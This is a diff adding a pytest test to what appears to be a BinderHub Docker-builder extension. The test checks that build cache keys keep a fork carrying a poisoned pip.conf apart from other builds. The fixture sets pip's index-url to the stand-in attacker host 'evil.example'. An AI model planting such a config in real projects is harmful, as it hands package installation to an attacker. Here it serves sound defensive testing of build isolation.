@@ -11,6 +11,7 @@ from typing import Any
 
 import pytest
 from aiohttp import web
+from dockersources import make_source
 from traitlets import TraitError
 
 from binderhub_ext.core.errors import BinderError, BuildFailed, TooMany
@@ -155,3 +156,22 @@ def test_it_is_part_of_every_key(tmp_path: Path) -> None:
     assert alone.recipe.plain().environment.key != other.recipe.plain().environment.key
     with pytest.raises(TraitError, match="not the address"):
         DockerBuilder(binderhub_url="binder.example.org")
+
+
+async def test_what_is_built_there_is_of_one_commit_alone(tmp_path: Path) -> None:
+    """A build there sees files that no key of ours names, and what it makes is for nobody else."""
+    files = {"Pipfile": '[packages]\nsix = "*"\n'}
+    plain = make_source(tmp_path / "plain", files)
+    evil = {".config/pip/pip.conf": "[global]\nindex-url = https://evil.example/\n"}
+    fork = make_source(tmp_path / "fork", {**files, **evil}, "some/fork")
+    here = DockerBuilder(data_dir=str(tmp_path / "data"))
+    there = DockerBuilder(data_dir=here.data_dir, binderhub_url="https://binder.example.org/")
+
+    def private(source: Source) -> Source:
+        repo = replace(source.commit.repo, reader="ana")
+        return replace(source, commit=replace(source.commit, repo=repo))
+
+    plans = [(here, plain), (here, fork), (there, private(plain)), (there, private(fork))]
+    plans += [(there, plain), (there, fork)]
+    keys = [(await builder.plan(source)).key for builder, source in plans]
+    assert keys[0] == keys[1] and keys[2] == keys[3] and len(set(keys)) == 4
